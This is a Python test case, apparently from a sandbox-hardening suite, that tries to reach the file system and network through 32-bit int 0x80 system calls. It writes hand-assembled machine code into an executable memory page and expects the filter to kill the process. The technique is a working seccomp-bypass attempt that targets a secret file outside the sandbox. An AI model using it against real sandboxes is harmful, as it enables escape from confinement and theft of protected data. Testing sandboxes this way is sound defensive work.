# Calls the kernel by the gate of 32-bit programs, where every number means another call.
# expect: graded|crashed
# reason: killed by SIGSYS
# silent: a filter may end the process at the first such call
import ctypes
import mmap

from attack import Attack, attempt, say
from targets import OUTSIDE

MAP_32BIT = 0x40
OPEN, SOCKET, FORK, MEMFD_CREATE = 5, 359, 2, 356


class StudentNet(Attack):
    def attack(self):
        page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, 7)
        base = ctypes.addressof(ctypes.c_char.from_buffer(page))
        page[1024:1024 + len(OUTSIDE) + 12] = f"{OUTSIDE}/secret.txt".encode() + b"\0"
        attempt("open", self.call, page, base, OPEN, base + 1024, 0, 0)
        attempt("socket", self.call, page, base, SOCKET, 2, 1, 0)
        attempt("memfd_create", self.call, page, base, MEMFD_CREATE, base + 1024, 0, 0)

    def call(self, page, base, number, first, second, third):
        code = b"\x53"  # push rbx
        for opcode, value in ((b"\xb8", number), (b"\xbb", first), (b"\xb9", second), (b"\xba", third)):
            code += opcode + value.to_bytes(4, "little")
        page[:len(code) + 4] = code + b"\xcd\x80\x5b\xc3"  # int 0x80; pop rbx; ret
        result = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
        if result < 0:
            raise OSError(-result, "refused")
        return result
